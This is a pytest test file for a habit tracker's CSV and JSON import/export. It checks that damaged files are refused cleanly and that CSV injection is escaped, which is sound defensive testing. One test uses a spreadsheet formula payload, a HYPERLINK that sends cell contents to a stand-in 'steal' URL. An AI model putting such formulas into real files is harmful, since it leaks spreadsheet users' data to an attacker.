"""Export and import files that were edited, damaged or written to harm: a clean answer every time.

The command line is driven as in test_cli.py; the CSV escaping is also checked as a property.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.test_cli import QUOTES, STOCKHOLM, Cli
from trayhabit.core.model import Habit, Schedule
from trayhabit.core.transfer import export_csv, parse_import


@pytest.fixture
def cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Cli:
    return Cli(tmp_path / "data", capsys)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def test_a_csv_export_without_edit_times_imports_over_the_same_habit(cli: Cli, tmp_path: Path):
    # A spreadsheet user cleared the time columns; the habit is already in this store.
    cli.ok(*QUOTES)
    rows = _rows(cli.ok("export", "--format", "csv").out)
    rows[0]["created_at"] = rows[0]["updated_at"] = ""
    rows[0]["why"] = "Changed in the spreadsheet"
    edited = tmp_path / "edited.csv"
    _write_csv(edited, rows)
    before = cli.ok("list", "--json").json()

    result = cli("import", str(edited), "--json")

    assert result.code == 0, result.err
    # A version with no edit time is older than any edited one: the store's version stays.
    assert result.json() == {"habits_added": 0, "habits_updated": 0, "events_added": 0}
    assert cli.ok("list", "--json").json() == before


# -- a damaged or hand-edited export: one line naming the file and the habit or event, nothing changed --


def _json_cell(section: str, key: str, value: object):
    def edit(document: dict) -> None:
        document[section][0][key] = value

    return edit


def _csv_cell(row: int, column: str, value: str):
    def edit(rows: list[dict[str, str]]) -> None:
        rows[row][column] = value

    return edit


DAMAGED = [
    # Each a class of problem; the first cell or value of its kind in the file.
    pytest.param("csv", _csv_cell(0, "start", ""), "habit 1.*“start” is missing", id="csv-blank-start"),
    pytest.param("csv", _csv_cell(0, "at", "25:00"), "habit 1", id="csv-time-out-of-range"),
    pytest.param("csv", _csv_cell(0, "state", "foo"), "habit 1", id="csv-unknown-state"),
    pytest.param("csv", _csv_cell(1, "kind", "foo"), "event 1", id="csv-unknown-event-kind"),
    pytest.param("csv", _csv_cell(0, "start", "9999-12-31"), "habit 1.*year 9000", id="csv-huge-year"),
    pytest.param(
        "csv",
        _csv_cell(0, "updated_at", "2027-01-01T00:00:00"),
        "habit 1.*UTC offset",
        id="csv-time-no-offset",
    ),
    pytest.param("csv", _csv_cell(0, "name", "a\rb"), "line", id="csv-unquoted-line-break"),
    pytest.param("json", _json_cell("habits", "rrule", 5), "habit 1.*“rrule” must be text", id="json-number"),
    pytest.param("json", _json_cell("habits", "name", ["x"]), "habit 1.*“name” must be text", id="json-list"),
    pytest.param(
        "json",
        _json_cell("events", "habit_id", ["x"]),
        "event 1.*“habit_id” must be text",
        id="json-event-list",
    ),
    pytest.param(
        "json", lambda document: document["habits"].__setitem__(0, "x"), "habit 1", id="json-not-an-object"
    ),
    pytest.param(
        "json",
        lambda document: document["settings"].update(snooze_minutes="soon"),
        "setting snooze_minutes",
        id="json-setting-wrong-type",
    ),
    pytest.param(
        "json",
        lambda document: document["settings"].update(day_boundary=5),
        "setting day_boundary",
        id="json-setting-time-as-number",
    ),
]


@pytest.mark.parametrize(("fmt", "damage", "message"), DAMAGED)
def test_a_damaged_export_is_refused_in_one_line_and_changes_nothing(
    cli: Cli, tmp_path: Path, fmt: str, damage, message: str
):
    import json
    import re

    cli.ok(*QUOTES)
    cli.clock.set(datetime(2026, 11, 27, 15, 30, tzinfo=STOCKHOLM))
    cli.ok("done", "Follow up sent quotes")
    exported = cli.ok("export", "--format", fmt).out
    damaged = tmp_path / f"damaged.{fmt}"
    if fmt == "json":
        document = json.loads(exported)
        damage(document)
        damaged.write_text(json.dumps(document), encoding="utf-8")
    else:
        rows = _rows(exported)
        damage(rows)
        # Written by hand, as a careless program would: no quotes around a line break.
        if "\r" in rows[0]["name"]:
            damaged.write_text(
                exported.replace("Follow up sent quotes", rows[0]["name"]).replace("\r\n", "\n"),
                encoding="utf-8",
                newline="",
            )
        else:
            _write_csv(damaged, rows)
    # Into this store, which has the habit, and into a new one.
    for target in (cli, Cli(tmp_path / "new", cli.capsys)):
        target.clock = cli.clock
        target.ok("list")  # the new store's folder made first
        before = target.snapshot()
        result = target("import", str(damaged))
        assert result.code == 1, result.err
        (line,) = result.err.strip().splitlines()
        assert line.startswith(f"trayhabit: {damaged.name}"), line
        assert re.search(message, line), line
        assert target.snapshot() == before


# -- CSV cells a spreadsheet shows as text (OWASP's advice on CSV injection), and an exact round trip ----


def test_a_formula_in_a_name_reaches_the_csv_as_text_and_comes_back_whole(cli: Cli, tmp_path: Path):
    name = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'
    cli.ok("add", name, "--every", "day", "--at", "09:00", "--why", "@SUM(1+1)")
    exported = tmp_path / "export.csv"
    cli.ok("export", "--format", "csv", "-o", str(exported))

    text = exported.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text
    (habit,) = _rows(text)
    assert habit["name"] == "'" + name and habit["why"] == "'@SUM(1+1)"

    other = Cli(tmp_path / "other", cli.capsys)
    other.ok("import", str(exported))
    (imported,) = other.ok("list", "--json").json()
    assert (imported["name"], imported["why"]) == (name, "@SUM(1+1)")


class _View:
    """The little of a StoreView that an export reads: one habit, no events, no settings."""

    def __init__(self, habit: Habit) -> None:
        self._habit = habit

    def habits(self) -> list[dict]:
        return [self._habit.to_doc()]

    def events(self, habit_id: str | None = None) -> list[dict]:
        return []

    def settings(self) -> dict:
        return {}


# Text that begins, often, with what a spreadsheet would run or with the escape itself.
_LEADS = st.sampled_from(
    ["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "'+", "'-", "'@", "'\t", "'\r", "'x"]
)
_TEXT = st.builds(lambda lead, rest: lead + rest, _LEADS, st.text())


@given(name=_TEXT.filter(str.strip), why=_TEXT, reason=_TEXT)
def test_every_text_survives_a_csv_export_and_import_exactly(name: str, why: str, reason: str):
    habit = Habit(
        id="h1",
        name=name,
        why=why,
        state_reason=reason,
        schedule=Schedule(rrule="FREQ=DAILY", at=time(9, 0), start=date(2026, 11, 25)),
        created_at=datetime(2026, 11, 25, 9, 0, tzinfo=STOCKHOLM),
    )
    data = export_csv(_View(habit), datetime(2026, 11, 26, 12, 0, tzinfo=STOCKHOLM), STOCKHOLM).encode()

    (imported,), _, _ = parse_import(data, "export.csv")

    assert (imported.name, imported.why, imported.state_reason) == (name, why, reason)
    # No cell a spreadsheet would run as a formula.
    for row in csv.reader(io.StringIO(data.decode())):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
